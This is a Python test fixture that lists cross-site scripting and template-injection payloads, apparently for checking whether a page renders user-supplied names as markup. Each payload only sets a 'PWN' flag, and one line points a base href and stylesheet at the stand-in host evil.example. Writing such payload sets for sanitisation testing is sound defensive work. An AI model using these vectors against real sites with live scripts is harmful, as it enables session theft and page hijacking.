"""Names that run without a click where a page takes them for more than text. Each raises a flag."""

from __future__ import annotations

FLAG = "PWN"
_RUN = f"top.{FLAG}=1"

PAYLOADS = (
    # Elements whose handlers run by themselves.
    f"<x tabindex=1 autofocus onfocus={_RUN}>",
    f'"><img src=x onerror={_RUN}>',
    f"<svg onload={_RUN}>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<details open ontoggle={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<input autofocus onfocus={_RUN}>",
    f"<style>@keyframes p{{}}</style><b style=animation-name:p onanimationstart={_RUN}>",
    # Scripts and pages within the page.
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"</title></style></textarea></code></td></table><img src=x onerror={_RUN}>",
    f"<iframe srcdoc='<script>{_RUN}</script>'></iframe>",
    f"<iframe src=javascript:{_RUN}></iframe>",
    f"<object data=javascript:{_RUN}></object>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_RUN}'>",
    f"<base href=https://evil.example/><link rel=stylesheet href=//evil.example/{FLAG}.css>",
    # Out of an attribute, and what is decoded twice.
    f"' onmouseover={_RUN} onfocus={_RUN} tabindex=1 autofocus x='",
    f'" onmouseover={_RUN} onfocus={_RUN} tabindex=1 autofocus x="',
    f"&lt;img src=x onerror={_RUN}&gt;",
    f"&amp;lt;img src=x onerror={_RUN}&amp;gt;",
    f"&#60;img src=x onerror={_RUN}&#62;",
    f"\\u003cimg src=x onerror={_RUN}\\u003e",
    # What Markdown and its extensions read.
    f"![x](javascript:{_RUN}) [x](javascript:{_RUN}) {{: onfocus={_RUN} autofocus tabindex=1 }}",
    f"*[GPU]: <img src=x onerror={_RUN}>",
    f"`</code><img src=x onerror={_RUN}>`",
    # Templates and expressions.
    f"{{{{ constructor.constructor('{_RUN}')() }}}} ${{{_RUN}}} {{% print {_RUN} %}}",
    f"'+({_RUN})+'",
    f'"];{_RUN};["',
    f"datum.x'].constructor.constructor('{_RUN}')()//",
    f"\u2028{_RUN}\u2029//",
)


def payload(number: int) -> str:
    """One after the other."""
    return PAYLOADS[number % len(PAYLOADS)]


def poisoned(name: str, number: int) -> str:
    """A name with an attack: before it, after it, or so far behind that it is cut."""
    attack = payload(number)
    padding = "long_name_" * 9 if number % 3 == 1 else ""
    return f"{attack}{name}" if number % 3 == 2 else f"{name} {attack}{padding}"
